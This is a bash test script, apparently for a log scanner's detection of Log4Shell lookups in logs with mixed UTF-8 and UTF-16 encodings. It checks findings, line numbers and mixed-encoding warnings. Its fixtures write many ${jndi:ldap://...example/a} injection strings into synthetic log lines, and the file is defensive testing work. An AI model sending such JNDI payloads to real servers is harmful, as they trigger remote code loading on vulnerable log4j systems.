#!/usr/bin/env bash
# logs_encodings.sh -- one region never decides the encoding of a whole log
# (issue 9, item 7).  A first line of 40,000 x "A\0" (a user name a real
# log4j 2.14.1 app logged) made `defuse logs` read the whole file as
# UTF-16, so three plain ${jndi:...} lines after it gave 0 findings and
# exit 0.  Every file is now read as bytes (UTF-8 / Latin-1) and, where a
# line looks like UTF-16 (BOM, or the NUL pattern), also as UTF-16; a
# file that mixes both is named on stderr once with the byte offset.
# Genuine UTF-16 logs (with and without BOM) keep true line numbers.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
python3 - <<'PY'
def pl(h):
    return '192.0.2.9 - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://%s.example/a} HTTP/1.1" 404 0\n' % h
# the exact case of the issue: one NUL-patterned first line, three UTF-8 payloads
open("aznul.log", "wb").write(b"A\0" * 40000 + b"\n" + "".join(pl("u8-%d" % i) for i in (2, 3, 4)).encode())
# genuine UTF-16LE with BOM and UTF-16BE without: several lines, two payloads
body = "first line\nsecond \u00e9 line\n" + pl("le-3") + "x\n" + pl("le-5") + "last\n"
open("le-bom.log", "wb").write(b"\xff\xfe" + body.encode("utf-16-le"))
open("be-nobom.log", "wb").write(body.replace("le-", "be-").encode("utf-16-be"))
open("le-nobom.log", "wb").write(body.replace("le-", "ln-").encode("utf-16-le"))
# alternating regions: UTF-16LE (lines 1-3), UTF-8 (4-6), UTF-16LE (7-9),
# UTF-8 (10-11); a payload in each region
r1 = ("a\nb\n" + pl("r1-3")).encode("utf-16-le")
r2 = ("c\n" + pl("r2-5") + "d\n").encode()
r3 = (pl("r3-7") + "e\nf\n").encode("utf-16-le")
r4 = ("g\n" + pl("r4-11")).encode()
open("alt.log", "wb").write(r1 + r2 + r3 + r4)
open("alt.off", "w").write(str(len(r1)))
PY

# run FILE [options]: JSON findings -> hits.txt as "line host", stderr -> err.txt
run() {
    local f=$1; shift
    "$DEFUSE" logs --json "$@" "$f" > out.json 2> err.txt
    RC=$?
    python3 -c '
import json, re, sys
for l in open("out.json"):
    r = json.loads(l)
    m = re.search(r"//([^/]*)\.example/", r.get("callback") or "")
    print(r["line"], r["kind"], m.group(1) if m else "-")
' | sort -n > hits.txt
}
want() { printf '%s\n' "$@" | sort -n > want.txt; }
same() { if cmp -s hits.txt want.txt; then ok "$1"; else fail "$1: got"; sed 's/^/    /' hits.txt >&2; echo "  want" >&2; sed 's/^/    /' want.txt >&2; fi; }

run aznul.log
expect_rc 1 "$RC" "40,000 x A\\0 first line: findings"
want "2 jndi u8-2" "3 jndi u8-3" "4 jndi u8-4"; same "40,000 x A\\0 first line: the three UTF-8 payloads, right lines"
expect_grep "aznul.log: warning: mixed encodings" err.txt "mixed file named on stderr"
# the change is at the end of the 80,000-byte line (the offset may name its
# newline or the first byte of the next line)
off_in() { local o; o=$(sed -n 's/.*byte offset \([0-9]*\).*/\1/p' err.txt | head -1)
    if [ -n "$o" ] && [ "$o" -ge "$1" ] && [ "$o" -le "$2" ]; then ok "$3 ($o)"; else fail "$3: offset '$o' not in [$1, $2]"; fi; }
off_in 80000 80001 "warning gives the byte offset of the change"
[ "$(grep -c 'mixed encodings' err.txt)" = 1 ] && ok "warned once" || fail "warned $(grep -c 'mixed encodings' err.txt) times"
run aznul.log --jobs 1
want "2 jndi u8-2" "3 jndi u8-3" "4 jndi u8-4"; same "same with --jobs 1"
cat aznul.log | "$DEFUSE" logs > out.txt 2> err.txt; expect_rc 1 $? "stdin"
[ "$(grep -c ': jndi' out.txt)" = 3 ] && ok "stdin: 3 findings" || fail "stdin: $(cat out.txt)"
gzip -c aznul.log > aznul.log.gz
run aznul.log.gz
want "2 jndi u8-2" "3 jndi u8-3" "4 jndi u8-4"; same "gzip: the three UTF-8 payloads"

run le-bom.log
want "3 jndi le-3" "5 jndi le-5"; same "UTF-16LE with BOM: decoded, true line numbers"
expect_nogrep "mixed" err.txt "pure UTF-16LE log is not called mixed"
run be-nobom.log
want "3 jndi be-3" "5 jndi be-5"; same "UTF-16BE without BOM"
expect_nogrep "mixed" err.txt "pure UTF-16BE log is not called mixed"
run le-nobom.log
want "3 jndi ln-3" "5 jndi ln-5"; same "UTF-16LE without BOM"

run alt.log
want "3 jndi r1-3" "5 jndi r2-5" "7 jndi r3-7" "11 jndi r4-11"; same "alternating UTF-16LE / UTF-8 regions: every payload, right lines"
expect_grep "alt.log: warning: mixed encodings" err.txt "alternating file named"
off_in "$(cat alt.off)" "$(( $(cat alt.off) + 4 ))" "offset of the first change"

# a UTF-16 region after a NUL-free first 64 KiB: read files (< 4 MiB) and
# mapped files (a region of 64 KiB or more) switch the UTF-16 view on there
python3 - <<'PY'
def pl(h):
    return '${jndi:ldap://%s.example/a}\n' % h
open("late.log", "wb").write(("x\n" * 40000 + pl("u8-40001")).encode()
    + ("c\n" + pl("u16-40003")).encode("utf-16-le") + pl("u8-40004").encode())
open("late-big.log", "wb").write((("y" * 99 + "\n") * 60000 + pl("u8-60001")).encode()
    + ("c\n" * 40000 + pl("u16-100002")).encode("utf-16-le") + pl("u8-100003").encode())
PY
run late.log
want "40001 jndi u8-40001" "40003 jndi u16-40003" "40004 jndi u8-40004"; same "UTF-16 region after 80 KB of UTF-8 (read)"
"$DEFUSE" logs late.log 2>/dev/null | sed 's/: jndi.*//' > order.txt
printf 'late.log:40001\nlate.log:40003\nlate.log:40004\n' > want-order.txt
cmp -s order.txt want-order.txt && ok "findings of both readings printed in line order" || fail "order: $(cat order.txt)"
for j in 1 2; do
    run late-big.log --jobs $j
    want "60001 jndi u8-60001" "100002 jndi u16-100002" "100003 jndi u8-100003"; same "UTF-16 region after 6 MB of UTF-8 (mapped, --jobs $j)"
done

# a plain UTF-8 log is not called mixed and loses nothing
printf 'a\n%s\n' '${jndi:ldap://plain.example/a}' > plain.log
run plain.log
want "2 jndi plain"; same "plain UTF-8 log"
[ -s err.txt ] && fail "plain log: stderr: $(cat err.txt)" || ok "plain log: nothing on stderr"
finish
